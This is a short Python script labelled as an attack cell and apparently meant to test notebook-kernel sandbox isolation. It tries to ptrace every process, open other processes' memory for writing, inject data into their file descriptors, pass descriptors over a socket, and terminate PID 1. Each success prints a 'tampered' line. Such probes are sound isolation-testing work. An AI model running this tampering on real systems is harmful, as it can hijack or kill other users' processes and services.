# Traces, signals and overwrites the processes that start kernels, and takes over their pipes and sockets.
# %% attack
import contextlib
import ctypes
import os
import signal
import socket

libc = ctypes.CDLL(None, use_errno=True)
for process in sorted({1, os.getppid(), *(int(name) for name in os.listdir("/proc") if name.isdigit())} - {os.getpid()}):
    if libc.ptrace(16, process, None, None) == 0:
        print("tampered: traces", process)
    with contextlib.suppress(OSError), open(f"/proc/{process}/mem", "r+b"):
        print("tampered: memory of", process)
    with contextlib.suppress(OSError):
        for number in os.listdir(f"/proc/{process}/fd"):
            with open(f"/proc/{process}/fd/{number}", "w") as file:
                file.write('{"pid": 1}\n')
                print("tampered: wrote to", process, number)
for name in os.listdir("/run/sockets") if os.path.isdir("/run/sockets") else []:
    print("tampered: sees", name)
with contextlib.suppress(OSError, ValueError):
    with socket.socket(fileno=os.dup(0)) as requests:
        socket.send_fds(requests, [b"s"], [1])
        print("tampered: asked for a kernel")
os.kill(1, signal.SIGTERM)
